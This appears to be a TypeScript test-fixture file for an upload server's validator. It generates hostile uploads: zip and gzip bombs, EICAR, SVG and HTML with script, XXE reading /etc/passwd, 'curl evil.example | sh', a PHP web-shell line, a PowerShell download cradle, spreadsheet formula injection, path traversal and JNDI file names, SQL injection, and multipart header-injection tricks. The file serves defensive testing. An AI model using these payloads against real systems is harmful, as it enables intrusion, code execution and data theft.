import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { eicar } from '@thamani/server/testing/documents.ts';
import { any, disarmed, draws, hostile, onlyAtOnce, type Hostile } from './files.ts';

const script = '<script>fetch("https://evil.example")</script>';

/** Files that are nothing we take, each named and declared as if it were. */
const pretenders: Readonly<Record<string, Buffer | string>> = {
  'nothing at all': '',
  'one byte': '%',
  'zero bytes in a row': Buffer.alloc(4_096),
  'EICAR by itself': eicar,
  'EICAR in a zip': zip('eicar.com', eicar),
  'a zip bomb': zip('zeros', Buffer.alloc(40_000_000)),
  'a zip in a zip': zip('inner.zip', zip('zeros', Buffer.alloc(10_000_000))),
  'a gzip bomb': gzipSync(Buffer.alloc(40_000_000)),
  'a Word document': zip('word/document.xml', Buffer.from('<w:document/>')),
  'a Java archive': zip('META-INF/MANIFEST.MF', Buffer.from('Main-Class: Evil')),
  'an SVG': `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
  'an SVG behind a declaration': `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
  'an SVG behind a byte order mark': Buffer.from(`\uFEFF<svg onload="alert(1)"/>`),
  'an SVG in UTF-16': Buffer.from(`\uFEFF<svg onload="alert(1)"/>`, 'utf16le'),
  'a gzipped SVG': gzipSync(Buffer.from('<svg onload="alert(1)"/>')),
  'a web page': `<!doctype html><html>${script}</html>`,
  'a web page without a head': script,
  'a web page in UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'XML with an outside entity': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  'a billion laughs': '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
  'a style sheet with a program': '<?xml-stylesheet href="data:text/xsl,x"?><a/>',
  'a Windows program': 'MZ\u0090\u0000\u0003\u0000',
  'a Linux program': '\u007fELF\u0002\u0001\u0001',
  'a Mac program': '\u00cf\u00fa\u00ed\u00fe',
  'a Java class': '\u00ca\u00fe\u00ba\u00be\u0000\u0000\u00004',
  WebAssembly: '\u0000asm\u0001\u0000\u0000\u0000',
  'a shell script': '#!/bin/sh\ncurl evil.example | sh\n',
  'a batch file': '@echo off\r\ndel *.*\r\n',
  PowerShell: 'Invoke-Expression (New-Object Net.WebClient)',
  'Visual Basic': 'CreateObject("WScript.Shell").Run "calc"',
  PHP: '<?php system($_GET["c"]); ?>',
  'a shortcut': 'L\u0000\u0000\u0000\u0001\u0014\u0002\u0000',
  'a web shortcut': '[InternetShortcut]\r\nURL=https://evil.example\r\n',
  'a desktop entry': '[Desktop Entry]\nExec=evil\n',
  'a help file': 'ITSF\u0003\u0000\u0000\u0000',
  'an old Word document': '\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1',
  'rich text': '{\\rtf1{\\object\\objdata 01}}',
  PostScript: '%!PS-Adobe-3.0\n(%stdin) run\n',
  'a table with formulas': '=cmd|"/c calc"!A1,2\n',
  Flash: 'CWS\u000a\u0000\u0000',
  'a GIF': 'GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;',
  'a GIF that is also a script': 'GIF89a/*\u0000*/=1;alert(1)',
  'a BMP': 'BM\u003a\u0000\u0000\u0000',
  'a TIFF': 'II*\u0000\u0008\u0000\u0000\u0000',
  'a TIFF of the other order': 'MM\u0000*\u0000\u0000\u0000\u0008',
  WebP: 'RIFF\u001a\u0000\u0000\u0000WEBPVP8L',
  HEIC: '\u0000\u0000\u0000\u0018ftypheic',
  AVIF: '\u0000\u0000\u0000\u001cftypavif',
  'JPEG XL': '\u00ff\u000a\u0000\u0000',
  'JPEG 2000': '\u0000\u0000\u0000\u000cjP  \r\n\u0087\n',
  'an icon': '\u0000\u0000\u0001\u0000\u0001\u0000',
  'a Photoshop file': '8BPS\u0000\u0001',
  'a film': '\u0000\u0000\u0000\u0020ftypisom',
  'a song': 'ID3\u0003\u0000',
  'an Ogg': 'OggS\u0000\u0002',
  WebM: '\u001aE\u00df\u00a3',
  'a font': '\u0000\u0001\u0000\u0000\u0000\u000c',
  'a web font': 'wOF2\u0000\u0001',
  '7-Zip': "7z\u00bc\u00af'\u001c",
  RAR: 'Rar!\u001a\u0007\u0001\u0000',
  XZ: '\u00fd7zXZ\u0000',
  bzip2: 'BZh91AY&SY',
  tar: Buffer.concat([Buffer.from('a.txt'), Buffer.alloc(252), Buffer.from('ustar\u000000')]),
  'a disk image': Buffer.concat([Buffer.alloc(2_048), Buffer.from('\u0001CD001')]),
  SQLite: 'SQLite format 3\u0000',
  'a calendar': 'BEGIN:VCALENDAR\r\n',
  mail: 'From: a@evil.example\r\nContent-Type: text/html\r\n\r\n',
  JSON: '{"__proto__":{"admin":true}}',
  'a PDF behind a space': ' %PDF-1.7\n',
  'a PDF behind a line': '\n%PDF-1.7\n',
  'a PDF behind a byte order mark': Buffer.from('\uFEFF%PDF-1.7\n'),
  'a PDF behind a program': 'MZ\n%PDF-1.7\n',
  'a PDF behind a web page': `${script}\n%PDF-1.7\n`,
  'a PDF in small letters': '%pdf-1.7\n',
  'a PDF in UTF-16': Buffer.from('%PDF-1.7\n', 'utf16le'),
  'a form data PDF': '%FDF-1.2\n1 0 obj<</FDF<</F(http://evil.example)>>>>endobj',
  'a PNG without its first byte': 'PNG\r\n\u001a\n',
  'a PNG through a text transfer': '\u0089PNG\n\u001a\n',
  'a JPEG without its second mark': '\u00ff\u00d8\u0000\u0000',
};

export function others(): readonly Hostile[] {
  const named = Object.entries(pretenders).map(([what, bytes], index) =>
    hostile(what, bytes, onlyAtOnce, {
      name: ['scan.pdf', 'photo.png', 'photo.jpg'][index % 3] ?? '',
      mediaType: index % 4 === 0 ? 'photo' : 'document',
    }),
  );
  const random = draws(7);
  const noise = Array.from({ length: 6 }, (_, index) =>
    hostile(`noise ${index}`, Buffer.from(Array.from({ length: 2_000 }, () => Math.floor(random() * 256))), onlyAtOnce),
  );
  const sizes = [5_242_881, 5_242_880 + 4_096, 12_000_000].map((bytes) =>
    hostile(`${bytes} bytes`, Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(bytes - 9)]), onlyAtOnce),
  );
  return [...named, ...noise, ...sizes];
}

const names = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\cmd.exe',
  '/absolute/path.pdf',
  'quarantine/../sealed/x.pdf',
  '%2e%2e%2f%2e%2e%2fx.pdf',
  'a".pdf"; filename="b.html',
  'x.html',
  'x.php.pdf',
  'x.pdf.exe',
  '.htaccess',
  '..',
  'CON',
  'a:b|c?.pdf',
  '<img src=x onerror=alert(1)>.pdf',
  '${jndi:ldap://evil.example}.pdf',
  "'; drop table documents; --.pdf",
  '\u202efdp.exe',
  'a\u200bb\ufeff.pdf',
  'a\u0000.pdf',
  'a\tb.pdf',
  'x'.repeat(3_000),
  '👩‍🏭'.repeat(60),
  'ｓｃａｎ．ｐｄｆ',
  'шдф.pdf',
];

/** An honest file under a name that is not. */
export function namedBadly(honest: Buffer): readonly Hostile[] {
  return names.map((name, index) =>
    hostile(`the name ${JSON.stringify(name).slice(0, 40)}`, honest, any, {
      name,
      form: form(`form-data; name="media"; filename="${name}"`, honest, index),
    }),
  );
}

/** An honest file in a form that is not. */
export function formedBadly(honest: Buffer): readonly Hostile[] {
  const tricks: Readonly<Record<string, { type: string; body: Buffer }>> = {
    'a second header in the name': form('form-data; name="media"; filename="a\r\nContent-Type: text/html\r\nSet-Cookie: token=x"', honest),
    'no name': form('form-data; filename="a.pdf"', honest),
    'no disposition': form('attachment', honest),
    'a name of the prototype': form('form-data; name="__proto__"; filename="a.pdf"', honest),
    'two names': form('form-data; name="media"; name="other"; filename="a.pdf"; filename="b.html"', honest),
    'an extended name': form('form-data; name="media"; filename*=UTF-8\'\'..%2F..%2Fa.html', honest),
    'a type that is a page': form('form-data; name="media"; filename="a.pdf"\r\nContent-Type: text/html', honest),
    'an encoding in transfer': form('form-data; name="media"; filename="a.pdf"\r\nContent-Transfer-Encoding: base64', honest),
    'a thousand headers': form(`form-data; name="media"; filename="a.pdf"${'\r\nX-A: b'.repeat(1_000)}`, honest),
    'a header without end': form(`form-data; name="media"; filename="${'a'.repeat(90_000)}"`, honest),
    'no end': {
      type: 'multipart/form-data; boundary=b',
      body: form('form-data; name="media"; filename="a.pdf"', honest).body.subarray(0, -8),
    },
    'no boundary': { type: 'multipart/form-data', body: honest },
    'another boundary': {
      type: 'multipart/form-data; boundary=other',
      body: form('form-data; name="media"; filename="a.pdf"', honest).body,
    },
    'two files': twice(honest),
    'a form in the form': form('form-data; name="media"; filename="a.pdf"\r\nContent-Type: multipart/mixed; boundary=c', honest),
  };
  return Object.entries(tricks).map(([what, trick]) => hostile(`a form with ${what}`, honest, any, { form: trick }));
}

/** Honest files, which must pass: a server that refuses everything defends nothing. */
export function honestOnes(files: Readonly<Record<string, Buffer>>): readonly Hostile[] {
  return Object.entries(files).map(([what, bytes]) => hostile(`honest: ${what}`, bytes, disarmed));
}

function form(disposition: string, bytes: Buffer, index = 0): { type: string; body: Buffer } {
  const boundary = `b${index}`;
  const head = `--${boundary}\r\nContent-Disposition: form-data; name="media_type"\r\n\r\ndocument\r\n--${boundary}\r\nContent-Disposition: ${disposition}\r\n\r\n`;
  return {
    type: `multipart/form-data; boundary=${boundary}`,
    body: Buffer.concat([Buffer.from(head), bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
  };
}

function twice(bytes: Buffer): { type: string; body: Buffer } {
  const one = form('form-data; name="media"; filename="a.pdf"', bytes).body;
  const part = one.subarray(one.indexOf('--b0\r\nContent-Disposition: form-data; name="media"; '), -'--b0--\r\n'.length);
  return {
    type: 'multipart/form-data; boundary=b0',
    body: Buffer.concat([one.subarray(0, -'--b0--\r\n'.length), part, Buffer.from('--b0--\r\n')]),
  };
}

/** One file in a zip, by hand: local header, content, directory, end. */
export function zip(name: string, content: Buffer): Buffer {
  const packed = deflateRawSync(content);
  const crc = crc32(content);
  const fields = (signature: number, extra: number): Buffer => {
    const head = Buffer.alloc(extra);
    head.writeUInt32LE(signature);
    return head;
  };
  const local = fields(0x04034b50, 30);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(packed.byteLength, 18);
  local.writeUInt32LE(content.byteLength, 22);
  local.writeUInt16LE(name.length, 26);
  const central = fields(0x02014b50, 46);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(packed.byteLength, 20);
  central.writeUInt32LE(content.byteLength, 24);
  central.writeUInt16LE(name.length, 28);
  const front = Buffer.concat([local, Buffer.from(name), packed]);
  const directory = Buffer.concat([central, Buffer.from(name)]);
  const end = fields(0x06054b50, 22);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(directory.byteLength, 12);
  end.writeUInt32LE(front.byteLength, 16);
  return Buffer.concat([front, directory, end]);
}
